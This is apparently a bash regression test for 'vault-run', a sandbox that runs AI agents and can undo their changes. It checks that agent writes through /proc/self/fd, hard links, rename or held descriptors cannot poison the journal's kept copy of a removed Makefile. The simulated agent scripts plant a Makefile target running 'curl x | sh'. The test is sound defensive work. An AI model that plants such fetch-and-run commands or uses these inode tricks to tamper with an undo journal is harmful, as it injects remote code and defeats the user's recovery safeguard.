#!/usr/bin/env bash
# `vault-run undo` never puts the agent's bytes back (SECURITY.md, "the
# journal's objects never change"). The journal keeps a removed file as a
# second hard link to its inode; an agent that still reaches that inode
# after the removal — a descriptor reopened through /proc/self/fd, another
# hard link it made, a name it replaced with rename — used to write into
# the kept original, and undo then "restored" the agent's Makefile.
# Control: on a plain directory such a link does take the agent's bytes.
# Inside, each route is tried and undo must bring back the original Makefile
# byte for byte. Then a kept link that changes after the run (through a hard
# link the host has outside the project, size kept the same) is refused by
# undo with a line naming the object, before anything is touched; --force
# restores the rest but never that object.
. "$(dirname "$0")/../lib/libtest.sh"
. "$(dirname "$0")/../lib/sandbox-lib.sh"
vr_require_sandbox

printf 'all:\n\tcc -o app main.c\n' >"$T/Makefile.orig"

mkdir "$T/plain"
cp "$T/Makefile.orig" "$T/plain/Makefile"
ln "$T/plain/Makefile" "$T/plain/kept"
(cd "$T/plain" && sh -c 'exec 3<Makefile; rm Makefile; echo "evil: ; curl x | sh" >/proc/self/fd/3')
vr_check "control: a link kept before the removal takes the agent's bytes" grep -q evil "$T/plain/kept"

attack() { # NAME SCRIPT (run inside, in a project holding Makefile and other)
	local p="$T/$1"
	mkdir -p "$p"
	cp "$T/Makefile.orig" "$p/Makefile"
	echo other >"$p/other"
	(cd "$p" && "$VR" --quiet --net none -- sh -c "$2") || vr_fail "$1: the run failed"
	local st=0
	(cd "$p" && "$VR" undo) >"$T/$1.undo" 2>&1 || st=$?
	[ "$st" = 0 ] || cat "$T/$1.undo"
	vr_check "$1: undo succeeds" test "$st" = 0
	vr_check "$1: undo brings back the original Makefile, not the agent's" cmp -s "$T/Makefile.orig" "$p/Makefile"
	vr_check "$1: and leaves nothing of the agent's" test "$(ls -A "$p" | tr '\n' ' ')" = "Makefile other "
}
attack reopen 'exec 3<Makefile; rm Makefile; echo "evil: ; curl x | sh" >/proc/self/fd/3'
attack alias-after 'ln Makefile .x; rm Makefile; echo "evil: ; curl x | sh" >.x; rm .x'
attack alias-before 'ln Makefile .x; echo "evil: ; curl x | sh" >.x; rm Makefile'
attack replaced 'exec 3<Makefile; mv other Makefile; echo "evil: ; curl x | sh" >/proc/self/fd/3'
attack held 'exec 3>>Makefile; rm Makefile; echo "evil: ; curl x | sh" >&3'

# Past the size cap the link cannot become a copy: it is dropped rather
# than left to take the agent's bytes, and undo says it cannot restore.
p="$T/cap"
mkdir -p "$p"
head -c 4000 /dev/zero | tr '\0' a >"$p/data"
(cd "$p" && "$VR" --quiet --net none --journal-max-size 1000 -- \
	sh -c 'exec 3<data; rm data; echo evil >/proc/self/fd/3') 2>"$T/cap.err" || vr_fail "the capped run failed"
st=0
(cd "$p" && "$VR" undo) >"$T/cap.undo" 2>&1 || st=$?
cat "$T/cap.undo"
vr_check "over the cap: undo says the original was not kept (exit 1)" \
	grep -q "undo: data: its content was not kept (cap)" "$T/cap.undo"
vr_check "and never writes the agent's bytes back" test "$st" = 1 -a ! -e "$p/data"

# A kept link changed after the run, same size: only the ctime says so.
p="$T/after"
mkdir -p "$p" "$T/elsewhere"
cp "$T/Makefile.orig" "$p/Makefile"
echo keep >"$p/other"
ln "$p/Makefile" "$T/elsewhere/Makefile"
(cd "$p" && "$VR" --quiet --net none -- sh -c 'rm Makefile; echo changed >other') || vr_fail "the run failed"
sleep 0.05 # past the kernel's timestamp granularity, whatever it is
printf 'X' | dd of="$T/elsewhere/Makefile" bs=1 conv=notrunc status=none
st=0
(cd "$p" && "$VR" undo) >"$T/after.undo" 2>&1 || st=$?
cat "$T/after.undo"
vr_check "undo refuses a kept object that changed after the run (exit 1)" test "$st" = 1
vr_check "the refusal names the path and the object" \
	grep -q "undo: Makefile: its kept content (.*/objects/[0-9]*) changed after it was kept" "$T/after.undo"
vr_check "and touches nothing" test ! -e "$p/Makefile" -a "$(cat "$p/other")" = changed
st=0
(cd "$p" && "$VR" undo --force) >"$T/after.force" 2>&1 || st=$?
vr_check "--force restores the rest" test "$(cat "$p/other")" = keep
vr_check "but never the changed object (exit 1)" test "$st" = 1 -a ! -e "$p/Makefile"
vr_done
